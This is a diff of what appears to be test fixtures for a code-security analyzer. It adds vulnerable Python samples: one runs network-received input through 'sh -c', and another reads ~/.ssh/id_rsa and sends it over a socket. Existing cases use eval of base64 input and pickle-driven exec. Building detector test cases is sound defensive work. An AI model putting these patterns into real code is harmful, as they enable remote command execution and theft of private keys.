@@ -18,6 +18,13 @@ SCOPES = """
 function one() {{ function i(a) {{ return eval(a); }} i('1'); }}
 function two() {{ {own}i(Buffer.from(process.argv[2], 'base64').toString()); }}
 """
+LISTED = """
+import socket, subprocess
+def near(host):
+    words = [{program}, {first}, socket.create_connection((host, 80)).recv(99)]
+    subprocess.call(words)
+"""
+LOOKED_UP = "import socket\nf = open('/home/dev/.ssh/{file}')\nsocket.socket().{does}(read(f))\n"
 COPY = "import pickle\ncode = pickle.loads({made})\nexec(code)\n"
 CASES = {
     "xsrf": ("javascript", XSRF.format(url="url"), XSRF.format(url="'https://c.example.net/'")),
@@ -32,6 +39,14 @@ CASES = {
     "another function of that name": (
         "javascript", SCOPES.format(own="const i = console.log; "),
         SCOPES.format(own="function i(a) { return eval(a); } "),
+    ),
+    "argument of a fixed command": (
+        "python", LISTED.format(program="'ping'", first="'-c1'"),
+        LISTED.format(program="'sh'", first="'-c'"),
+    ),
+    "address in settings": (
+        "python", LOOKED_UP.format(file="config", does="connect"),
+        LOOKED_UP.format(file="id_rsa", does="sendall"),
     ),
     "copy": ("python", COPY.format(made="pickle.dumps(1)"), COPY.format(made="open('x').read()")),
 }  # fmt: skip
